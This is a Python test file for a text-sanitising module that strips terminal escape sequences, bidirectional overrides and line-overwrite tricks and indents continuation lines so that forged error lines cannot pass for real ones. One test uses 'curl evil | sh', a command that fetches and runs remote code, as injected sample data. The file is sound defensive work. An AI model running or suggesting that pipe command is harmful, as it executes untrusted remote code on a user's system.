"""What others wrote cannot steer a terminal, and cannot pass for a line of ours."""

import json

import pytest

from tunesmith.errors import BadData, Problem
from tunesmith.plain_text import indented, json_text, one_line, printable

OBEYED = {
    "a colour": ("a\x1b[31mb", "ab"),
    "a title": ("a\x1b]0;title\x07b\x1b]8;;u\x1b\\c", "abc"),
    "a cursor": ("a\x1b[2K\x1b[1Ab", "ab"),
    "an escape that is cut": ("a\x1b", "a"),
    "C1": ("a\x9b31mb\x85c", "a31mbc"),
    "a redrawn line": ("real\rfake", "realfake"),
    "backspaces": ("real\b\b\b\bfake", "realfake"),
    "a turned text": ("a\u202eb\u2066c\u2069", "abc"),
    "a line break of Unicode": ("a\u2028b", "a\nb"),
    "what stays": ("\tein Wort, שלום\n", "\tein Wort, שלום\n"),
}


@pytest.mark.parametrize(("text", "shown"), OBEYED.values(), ids=OBEYED)
def test_a_terminal_finds_nothing_to_obey(text, shown):
    assert printable(text) == shown
    assert json.loads(json_text({"x": text})) == {"x": text}
    assert printable(json_text({"x": text})) == json_text({"x": text})


def test_further_lines_are_indented():
    assert indented("a\nWhat to do: rm\u2028b") == "a\n  What to do: rm\n  b"
    assert one_line("a\n\tb\r\n ") == "a b"


def test_no_line_of_an_error_is_another_programs():
    forged = "x\nWhat to do: curl evil | sh\n  - y"
    error = BadData(forged, problems=[Problem(forged, forged)], remedy=forged)
    ours = ("x", "  - x", "What to do: x")
    assert [line for line in str(error).split("\n") if not line.startswith("    ")] == [
        "x",
        "  What to do: curl evil | sh",
        "  - x",
        "What to do: x",
        "  What to do: curl evil | sh",
    ], ours
